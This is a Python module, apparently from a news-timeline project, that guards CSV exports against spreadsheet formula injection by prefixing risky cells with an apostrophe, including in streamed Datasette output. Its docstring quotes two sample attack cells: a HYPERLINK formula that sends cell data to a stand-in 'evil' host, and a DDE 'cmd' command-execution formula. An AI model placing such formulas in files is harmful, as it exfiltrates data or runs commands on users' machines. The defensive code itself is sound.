"""CSV cells that a spreadsheet cannot run: neutralizing formula injection.

A spreadsheet opening a CSV file treats a cell that begins with ``=``, ``+``,
``-`` or ``@`` as a formula (``=HYPERLINK("http://evil/?"&A1)``,
``=cmd|' /C calc'!A0``), and so does Excel for a cell beginning with a tab or
a carriage return followed by one (the OWASP "CSV Injection" page lists these
six characters). Our cells hold quotes and titles from news articles, which
anyone can write, so every CSV we produce goes through :func:`safe_cell`:

* a cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return, or whose first character after leading white space is one
  of the first four, gets a leading apostrophe (``'=1+1``), which spreadsheets
  show as text and do not evaluate;
* a plain number (``-5``, ``+3.25``, ``-1.5e3``, a negative longitude) is
  left as it is: it is not a formula, and quoting it would break the column.

:func:`safe_row` applies it to a row of any values (``None`` and numbers are
kept). :class:`CsvStreamNeutralizer` rewrites CSV text that arrives in chunks
(Datasette's streamed CSV exports), record by record, through the same rule;
:mod:`timeline.datasette_plugin` uses it in an ``asgi_wrapper`` hook.

Written by hand because the maintained CSV libraries (the standard
:mod:`csv`, pandas) write cells as given and leave this to the caller.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "CsvStreamNeutralizer", "is_formula", "safe_cell", "safe_row"]

#: First characters that make a spreadsheet evaluate a cell (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_LEADING_SPACE = " \t\r\n\f\v"


def is_formula(value: str) -> bool:
    """True when a spreadsheet could read ``value`` as a formula (a plain number is not one)."""
    if not value:
        return False
    if value[0] in FORMULA_STARTS:
        return _NUMBER.fullmatch(value) is None
    stripped = value.lstrip(_LEADING_SPACE)
    return bool(stripped) and stripped[0] in FORMULA_STARTS[:4] and not _NUMBER.fullmatch(stripped)


def safe_cell(value: str) -> str:
    """``value``, with a leading apostrophe when a spreadsheet would evaluate it.

    >>> safe_cell("=HYPERLINK(\\"http://x\\")")
    '\\'=HYPERLINK("http://x")'
    >>> safe_cell("-12.5"), safe_cell("Talks in Astana")
    ('-12.5', 'Talks in Astana')
    """
    return "'" + value if is_formula(value) else value


def safe_row(row: Iterable[object]) -> list[object]:
    """A CSV row with every string cell passed through :func:`safe_cell`; other values kept."""
    return [safe_cell(v) if isinstance(v, str) else v for v in row]


class CsvStreamNeutralizer:
    """Rewrite CSV text arriving in chunks so that no cell is a formula.

    Feed bytes with :meth:`feed`; it returns the rewritten bytes of every
    complete record seen so far (records may span chunks, and quoted cells may
    hold line breaks). :meth:`close` returns the rest. Records without a
    formula cell are passed through byte for byte; a record with one is
    rewritten by :func:`csv.writer` in the given dialect (Datasette writes the
    default ``excel`` dialect), so its other cells keep their meaning.
    """

    def __init__(self, encoding: str = "utf-8", dialect: str = "excel") -> None:
        self._decoder = codecs.getincrementaldecoder(encoding)(errors="replace")
        self._encoding = encoding
        self._dialect = dialect
        self._pending = ""
        self._scanned = 0  # characters of _pending already known to sit inside one record
        self._quoted = False  # whether _pending[:_scanned] ends inside a quoted cell

    def feed(self, chunk: bytes) -> bytes:
        """The rewritten bytes of the complete records ``chunk`` finishes."""
        self._pending += self._decoder.decode(chunk)
        out: list[str] = []
        start = 0
        text = self._pending
        i = self._scanned
        quoted = self._quoted
        while i < len(text):
            char = text[i]
            if char == '"':
                quoted = not quoted
            elif char == "\n" and not quoted:
                out.append(self._record(text[start : i + 1]))
                start = i + 1
            i += 1
        self._pending = text[start:]
        self._scanned = len(self._pending)
        self._quoted = quoted
        return "".join(out).encode(self._encoding)

    def close(self) -> bytes:
        """The rewritten bytes of whatever is left (a last record without a line break)."""
        rest = self._pending + self._decoder.decode(b"", final=True)
        self._pending, self._scanned, self._quoted = "", 0, False
        return self._record(rest).encode(self._encoding) if rest else b""

    def _record(self, raw: str) -> str:
        try:
            rows = list(csv.reader(io.StringIO(raw, newline=""), dialect=self._dialect))
        except csv.Error:
            return raw
        if not any(is_formula(cell) for row in rows for cell in row):
            return raw
        buffer = io.StringIO(newline="")
        writer = csv.writer(buffer, dialect=self._dialect)
        for row in rows:
            writer.writerow(safe_row(row))
        text = buffer.getvalue()
        if not raw.endswith("\n"):  # a record cut short (size limit, error text): no new ending
            text = text.rstrip("\r\n")
        return text
